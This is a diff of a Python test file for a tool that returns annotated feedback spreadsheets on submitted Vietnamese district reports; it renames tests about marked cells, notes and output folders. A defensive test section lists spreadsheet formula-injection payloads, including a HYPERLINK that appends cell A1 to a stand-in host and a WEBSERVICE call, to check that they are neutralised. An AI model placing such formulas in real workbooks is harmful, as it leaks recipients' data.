@@ -1,4 +1,4 @@
-"""What goes back to the sender: marks at the cells of findings, nothing else changed or run."""
+"""Feedback files: cells with findings are marked, all else stays, and nothing in them can run."""
 
 import datetime as dt
 from collections.abc import Callable
@@ -44,7 +44,7 @@ def cells(sheet: Worksheet) -> dict[str, Any]:
 
 
 def marked(book: openpyxl.Workbook) -> set[tuple[str, str]]:
-    """Cells with a comment or a colour, of the sender's sheets."""
+    """The cells of the sender's sheets that have a comment or a colour."""
     return {
         (sheet.title, cell.coordinate)
         for sheet in book.worksheets
@@ -76,7 +76,7 @@ def test_exactly_the_cells_of_the_findings_are_marked(suffix: str, catalogue: Ca
         assert book[name].merged_cells.ranges != set()
 
 
-def test_a_note_says_what_why_and_what_to_do(catalogue: Catalogue) -> None:
+def test_a_note_says_what_is_wrong_and_what_to_do(catalogue: Catalogue) -> None:
     content = as_xlsx(put(district(), "HX-01!G7", 26.85))
     note = feedback(content, findings_of(content, catalogue))["HX-01"]["G7"].comment
     assert note is not None
@@ -111,7 +111,7 @@ def test_the_first_sheet_lists_everything_errors_first_with_links(catalogue: Cat
     }  # fmt: skip
 
 
-def test_many_remarks_of_one_kind_are_one_line(catalogue: Catalogue) -> None:
+def test_many_infos_of_one_kind_are_one_line(catalogue: Catalogue) -> None:
     sheets = district()
     for row in sheets["HX-01"][6:9]:
         row[3:10] = [str(number) for number in row[3:10]]
@@ -130,7 +130,7 @@ def test_a_file_that_cannot_be_opened_gets_the_list_alone() -> None:
     assert "Cả tệp" in [cell.value for cell in book[TITLE]["B"]]
 
 
-def test_a_feedback_file_that_was_corrected_reads_as_the_report_it_is(catalogue: Catalogue) -> None:
+def test_a_corrected_feedback_file_can_be_sent_back(catalogue: Catalogue) -> None:
     content = as_xlsx(put(district(), "HX-01!G7", 26.85))
     first = annotated(Returned("tệp.xlsx", content, findings_of(content, catalogue)))
     book = openpyxl.load_workbook(BytesIO(first))
@@ -145,7 +145,7 @@ def test_a_feedback_file_that_was_corrected_reads_as_the_report_it_is(catalogue:
     assert marked(feedback(wrong_again.getvalue(), again)) == {("HX-01", "G8")}
 
 
-def test_a_note_of_the_sender_stays_below_ours_and_alone_when_the_cell_is_mended(
+def test_a_note_of_the_sender_stays_and_ours_goes_once_the_cell_is_corrected(
     catalogue: Catalogue,
 ) -> None:
     sent = openpyxl.load_workbook(BytesIO(as_xlsx(put(district(), "HX-01!G7", 26.85))))
@@ -174,7 +174,7 @@ def test_two_findings_under_one_merged_cell_are_one_note(catalogue: Catalogue) -
     assert "Ghi chú của người gửi" not in note.text
 
 
-# --- nothing of it runs --------------------------------------------------------------------------
+# --- nothing in it can run ----------------------------------------------------------------------
 
 ATTACKS = [
     '=HYPERLINK("http://xau.example/?"&A1,"bấm vào đây")',
@@ -190,7 +190,7 @@ ATTACKS = [
 
 
 @pytest.mark.parametrize("formula", ATTACKS)
-def test_a_formula_that_does_more_than_compute_stands_as_text(
+def test_a_formula_that_does_more_than_compute_becomes_text(
     formula: str, catalogue: Catalogue
 ) -> None:
     content = as_xlsx(put(put(district(), "HX-01!L7", formula), "HX-01!A1", formula))
@@ -212,13 +212,13 @@ def test_a_formula_that_does_more_than_compute_stands_as_text(
         "=ROUND('HX-02'!E7/2,0)",
     ],
 )
-def test_a_formula_that_only_computes_stays_one(formula: str) -> None:
+def test_a_formula_that_only_computes_stays_a_formula(formula: str) -> None:
     assert is_harmless(formula)
     book = feedback(as_xlsx(put(district(), "HX-01!D10", formula)), ())
     assert book["HX-01"]["D10"].value == formula
 
 
-def test_checks_of_a_blank_form_stay_and_others_go(catalogue: Catalogue) -> None:
+def test_validations_that_only_compute_stay_and_others_go(catalogue: Catalogue) -> None:
     source = openpyxl.load_workbook(BytesIO(as_xlsx(district())))
     sheet = source["HX-01"]
     for formula in ("AND(ISNUMBER(H7),H7>G7)", 'WEBSERVICE("http://xau.example")=""'):
@@ -235,7 +235,7 @@ def test_checks_of_a_blank_form_stay_and_others_go(catalogue: Catalogue) -> None
     assert [v.formula1 for v in kept.data_validations.dataValidation] == ["AND(ISNUMBER(H7),H7>G7)"]
 
 
-def test_marks_that_libreoffice_saved_are_taken_off_as_well(
+def test_marks_saved_by_libreoffice_are_removed_too(
     tmp_path: Path, soffice: Callable[[Path, str], Path], catalogue: Catalogue
 ) -> None:
     content = as_xlsx(put(district(), "HX-01!G7", 26.85))
@@ -283,7 +283,7 @@ def folder(workspace: Workspace) -> list[str]:
     return sorted(path.name for path in workspace.feedback.glob("*"))
 
 
-def test_feedback_is_written_for_what_is_returned_and_goes_when_it_is_made_good(
+def test_feedback_is_written_for_returned_files_and_removed_once_good_ones_come(
     workspace: Workspace, catalogue: Catalogue
 ) -> None:
     save(workspace, "a.xlsx", home())
@@ -317,7 +317,7 @@ def test_what_a_killed_run_did_not_write_the_next_writes(
     assert folder(workspace) == ["a.xlsx.phan-hoi.xlsx"]
 
 
-def test_a_feedback_file_that_is_open_in_excel_stops_nothing(
+def test_a_feedback_file_open_in_excel_stops_nothing(
     workspace: Workspace, catalogue: Catalogue, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     save(workspace, "a.xlsx", put(home(), "CS-01!G7", "nhiều"))
@@ -352,9 +352,9 @@ def test_a_folder_that_cannot_be_written_loses_no_verdict(
 def test_files_of_one_name_have_feedback_of_their_own(
     workspace: Workspace, catalogue: Catalogue
 ) -> None:
-    wrong = put(home(), "CS-01!G7", "nhiều")
-    save(workspace, "a.xlsx", wrong)
-    save(workspace, "../2019/a.xlsx", put(wrong, "CS-01!G8", "ít"))
+    faulty_home = put(home(), "CS-01!G7", "nhiều")
+    save(workspace, "a.xlsx", faulty_home)
+    save(workspace, "../2019/a.xlsx", put(faulty_home, "CS-01!G8", "ít"))
     run(workspace, catalogue)
     assert folder(workspace) == ["a.xlsx (2019).phan-hoi.xlsx", "a.xlsx.phan-hoi.xlsx"]
 
@@ -405,7 +405,7 @@ def test_libreoffice_opens_a_feedback_file(
     assert saved["HX-01"]["G7"].comment is not None
 
 
-def test_a_file_of_another_period_makes_nothing_good(
+def test_a_good_file_of_another_period_does_not_remove_feedback(
     workspace: Workspace, catalogue: Catalogue
 ) -> None:
     half = district(period="từ ngày 01/01/2018 đến ngày 30/6/2018")
